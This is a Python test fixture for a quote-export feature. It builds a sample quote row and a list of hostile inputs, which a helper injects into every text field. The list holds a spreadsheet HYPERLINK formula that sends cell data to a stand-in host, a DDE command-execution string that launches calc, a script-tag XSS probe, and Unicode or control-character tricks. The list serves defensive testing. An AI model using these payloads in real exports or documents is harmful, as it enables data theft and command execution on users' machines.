"""Rows as the store gives them, with what a test is about."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

from app.store.read.base import Provenance
from app.store.read.exports import ExportRow
from app.store.read.quotes import QuoteRow

PUBLISHED = {
    "instant": "2031-03-01T05:30:00Z",
    "date": "2031-03-01",
    "printed": "1 March 2031, 06:30",
    "precision": "minute",
    "zone_assumed": None,
}
CHANGED = datetime(2031, 3, 2, tzinfo=UTC)
_QUOTE = QuoteRow(
    pk=1,
    uid="q_pier",
    kind="direct",
    text="“The pier will open,”",
    cue="said",
    cue_class="speech",
    polarity="asserted",
    confidence=0.93,
    speaker_status="resolved",
    described_as=None,
    speaker_uid="e_mira",
    speaker_name="Mira Kovalenko",
    organisation_uid=None,
    organisation_name=None,
    article_uid="a_pier",
    article_url="https://news.example/pier",
    article_title="A pier",
    article_publisher="Lindholm Post",
    article_published=PUBLISHED,
)
_ROW = ExportRow(_QUOTE, Provenance("0.1.0", "test_model-1", 2), False, "en", CHANGED)

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"pay")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹣1",
    "\0=1+1",
    "\ufeff=1+1",
    "\u200b\u202e=1+1",
    " =1+1",
    'a "quoted", comma; and\r\nlines\nof\rall sorts',
    "<script>alert(1)</script>]]>&amp;<!--",
    "a\0b\x01\x08\x0b\x0c\x1f\x7f\x85\u2028\u2029\ufffe\uffffc",
    "\u202eright to left\u202c שלום مرحبا",
    "🏗️ 👩‍🚒 🇪🇺 é é",
    "",
    " ",
    "'",
    "half \ud83d of a pair",
]
HARMLESS = ["“=”", "a=1", "1-2", "— no", "−1", "'=1", "Mira", "…", "", " "]


def row(**changed: Any) -> ExportRow:
    """A row with other values of its quote."""
    return replace(_ROW, quote=replace(_QUOTE, **changed))


def hostile_row(text: str) -> ExportRow:
    """A row that says `text` wherever foreign text may stand."""
    return row(
        text=text,
        speaker_name=text,
        described_as=text,
        organisation_uid="e_watch",
        organisation_name=text,
        cue=text,
        article_title=text,
        article_publisher=text,
        article_url=text,
        article_published={**PUBLISHED, "printed": text},
    )
